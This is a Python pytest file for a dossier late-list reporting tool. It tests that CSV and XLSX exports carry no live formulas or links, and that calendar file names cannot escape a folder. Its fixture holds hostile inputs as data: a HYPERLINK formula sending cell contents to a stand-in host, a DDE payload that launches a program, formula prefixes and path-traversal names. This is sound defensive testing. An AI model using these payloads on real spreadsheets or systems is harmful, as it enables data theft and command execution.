"""What is written for spreadsheets runs nothing in them, whatever names it holds."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from dossiers.reference.context import Context
from dossiers.reports.late_list import late_list, month_of
from dossiers.wire.calendar_spec import CalendarSpec
from dossiers.wire.facts import FinishedFact, ReceivedFact
from dossiers.wire.reference import Officer, Procedure, Reference, Step, Unit
from dunghen.late_list.document import Document, Names, document_of
from dunghen.late_list.formats import as_csv, as_xlsx
from sources.reference.folder import read_folder
from sources.reference.writing import write_folder

BEGINS = ("=", "+", "-", "@", "\t", "＝", "＋", "－", "＠")
EVIL = {
    "unit": "=HYPERLINK(\"http://a.example/\"&A1;\"x\")",
    "officer": "+cmd|' /C calc'!A0",
    "position": "x;@SUM(1)",
    "procedure": "{=1+1}",
    "step": "-2+3\n=4",
    "dossier": "＝1",
}  # fmt: skip
REFERENCE = Reference(
    title=EVIL["unit"],
    units=(Unit(id="u1", name=EVIL["unit"], x=0.5, y=0.25), Unit(id="@u2", name="'=quoted")),
    officers=(Officer(id="o1", name=EVIL["officer"], unit="u1", position=EVIL["position"]),),
    procedures=(
        Procedure(
            id="p1", name=EVIL["procedure"], steps=(Step(id="s1", name=EVIL["step"], hours=1),)
        ),
    ),
)


def at(day: int) -> int:
    moment = datetime(2026, 10, day, 9, tzinfo=ZoneInfo("Asia/Ho_Chi_Minh"))
    return int(moment.timestamp() * 1000)


@pytest.fixture(scope="module")
def document() -> Document:
    context = Context(REFERENCE)
    facts = [
        ReceivedFact(at(1), "t", 0, "e0", at(1), unit="u1", officer="o1", step="s1",
                     procedure="p1", due_at=at(5)),
        FinishedFact(at(7), "t", 1, "e1", at(7)),
    ]  # fmt: skip
    month = month_of("2026-10", context)
    found = late_list(iter([(EVIL["dossier"], facts)]), month, at(30), context, "")
    return document_of(found, "a timeline", Names.of(REFERENCE))


def cells(text: str, delimiter: str) -> Iterator[str]:
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
        yield from row


@pytest.mark.parametrize("part", ["officers", "units", "dossiers"])
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_of_the_late_list_is_a_formula(
    document: Document, part: str, delimiter: str
) -> None:
    """By whatever character the spreadsheet at hand separates cells."""
    found = list(cells(as_csv(document, part).decode("utf-8-sig"), delimiter))
    assert any("HYPERLINK" in cell for cell in found)
    assert [cell for cell in found if cell.lstrip(" ").startswith(BEGINS)] == []


def test_no_cell_of_the_workbook_is_a_formula_or_a_link(document: Document) -> None:
    with zipfile.ZipFile(io.BytesIO(as_xlsx(document))) as book:
        sheets = {name: book.read(name).decode() for name in book.namelist()}
    assert sum("HYPERLINK(" in text for text in sheets.values()) == 1, "among the texts"
    for name, text in sheets.items():
        assert not re.search(r"<f[ >]|<hyperlink|<ddeLink|externalLink", text), name
        assert "macro" not in name.lower()


def test_reference_data_can_be_opened_in_a_spreadsheet_and_read_back(tmp_path: Path) -> None:
    write_folder(REFERENCE, tmp_path)
    for path in tmp_path.glob("*.csv"):
        for cell in cells(path.read_text("utf-8"), ","):
            assert not cell.startswith(BEGINS), path
    loaded = read_folder(tmp_path)
    assert loaded.errors == ()
    assert loaded.reference is not None
    for table in ("units", "officers", "procedures"):
        assert set(getattr(loaded.reference, table)) == set(getattr(REFERENCE, table))


@pytest.mark.parametrize("name", ["../evil", "a/b", "/evil", "..", ".x", "a\0b", "a\\b"])
def test_a_calendar_is_written_nowhere_else(tmp_path: Path, name: str) -> None:
    spec = CalendarSpec(kind="24x7", name=name)
    target = tmp_path / "folder"
    with pytest.raises(ValueError, match="no file can have"):
        write_folder(Reference(calendars=(spec,)), target)
    assert list(tmp_path.iterdir()) == []
